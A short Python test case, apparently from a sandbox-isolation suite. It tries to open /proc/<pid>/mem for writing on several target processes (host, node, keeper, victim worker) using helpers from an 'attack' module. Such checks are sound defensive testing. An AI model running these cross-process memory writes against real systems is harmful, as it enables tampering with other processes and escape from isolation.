# name: open another process's memory for writing
# line: 51
from attack import STAGE, opened_to_write, try_each

KEYS = ["host_pid", "node_pid", "keeper_pid", "victim_keeper_pid", "victim_worker_pid", "keeper_number"]
try_each((key, lambda key=key: opened_to_write(f"/proc/{STAGE[key]}/mem")) for key in KEYS)
